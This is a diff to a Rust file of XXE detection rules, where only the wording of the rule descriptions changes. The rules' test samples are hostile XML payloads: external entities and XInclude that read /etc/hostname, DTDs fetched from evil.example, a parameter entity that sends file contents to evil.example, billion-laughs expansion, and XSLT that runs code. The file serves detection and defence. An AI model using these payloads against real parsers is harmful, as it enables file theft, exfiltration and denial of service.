@@ -1,4 +1,4 @@
-//! What counts as evidence of XML that reaches beyond its document.
+//! The rules.
 
 use crate::detect::evidence::{Class, Rule};
 
@@ -21,7 +21,7 @@ pub(super) static EXTERNAL_ENTITY: Rule = Rule::new(
     Class::Xxe,
     "xxe.external-entity",
     100,
-    "declares an entity whose text is fetched from elsewhere",
+    "declares an external entity",
     &[
         "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><r>&e;</r>",
         "<!ENTITY % remote PUBLIC \"any\" 'http://evil.example/x.dtd'>",
@@ -34,7 +34,7 @@ pub(super) static PARAMETER: Rule = Rule::new(
     Class::Xxe,
     "xxe.parameter-entity",
     100,
-    "declares an entity that is used in declarations, where it can build others",
+    "declares a parameter entity",
     &["<!ENTITY % a \"<!ENTITY &#37; b SYSTEM 'http://evil.example/?%file;'>\">", "<!ENTITY % file 'x'>"],
     &["<!ENTITY percent '%'>", "100 % <!important>"],
 );
@@ -43,7 +43,7 @@ pub(super) static INTERNAL: Rule = Rule::new(
     Class::Xxe,
     "xxe.internal-entity",
     40,
-    "declares an entity of its own",
+    "declares an internal entity",
     &["<!DOCTYPE r SYSTEM \"r.dtd\" [<!ENTITY a \"1\"><!ENTITY b \"&a;&a;&a;&a;\">]>"],
     &["<!DOCTYPE svg [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg/>", "<!ENTITY nbsp \"&#160;\">"],
 );
@@ -52,7 +52,7 @@ pub(super) static GROWTH: Rule = Rule::new(
     Class::Xxe,
     "xxe.growth",
     100,
-    "declares an entity that grows when it is expanded, or that holds itself",
+    "declares an entity that expands exponentially or recursively (billion laughs)",
     &[
         "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">",
         "<!ENTITY a \"&b;\"><!ENTITY b \"x&b;\">",
@@ -64,7 +64,7 @@ pub(super) static EXTERNAL_TYPE: Rule = Rule::new(
     Class::Xxe,
     "xxe.external-type",
     100,
-    "has its document type fetched from elsewhere",
+    "has an external document type",
     &[
         "<!DOCTYPE x SYSTEM \"//evil.example/x\"><x/>",
         "<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\">",
@@ -82,7 +82,7 @@ pub(super) static LOCAL_TYPE: Rule = Rule::new(
     Class::Xxe,
     "xxe.local-type",
     60,
-    "has its document type read from a file beside it",
+    "has a document type in a local file",
     &["<!DOCTYPE r SYSTEM \"r.dtd\" [<!ENTITY a \"1\">]>"],
     &["<!DOCTYPE note SYSTEM \"note.dtd\"><note/>"],
 );
@@ -91,7 +91,7 @@ pub(super) static INCLUDE: Rule = Rule::new(
     Class::Xxe,
     "xxe.include",
     100,
-    "includes another document",
+    "includes another document (XInclude)",
     &[
         "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></foo>",
         "<xi:include href='http://evil.example/x.xml'/>",
@@ -103,7 +103,7 @@ pub(super) static LOCAL_INCLUDE: Rule = Rule::new(
     Class::Xxe,
     "xxe.local-include",
     60,
-    "includes a document beside it",
+    "includes a local document (XInclude)",
     &["<!DOCTYPE book [<!ENTITY v \"2\">]><book><xi:include href=\"secrets.xml\"/></book>"],
     &["<book><xi:include href=\"chapter1.xml\"/></book>"],
 );
@@ -112,7 +112,7 @@ pub(super) static SCHEMA: Rule = Rule::new(
     Class::Xxe,
     "xxe.schema",
     60,
-    "names the address of a schema without the namespace it is for",
+    "has a schema location without its namespace",
     &["<!DOCTYPE x [<!ENTITY a \"1\">]><x xsi:schemaLocation=\"http://evil.example/x\"/>"],
     &[
         "<x xsi:schemaLocation=\"http://evil.example/x\"/>",
@@ -125,7 +125,7 @@ pub(super) static STYLE_CODE: Rule = Rule::new(
     Class::Xxe,
     "xxe.style-code",
     100,
-    "is a style sheet that runs code of the processor",
+    "is an XSLT style sheet that runs code",
     &[
         "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\">",
         "<msxsl:script language=\"C#\" implements-prefix=\"u\">",
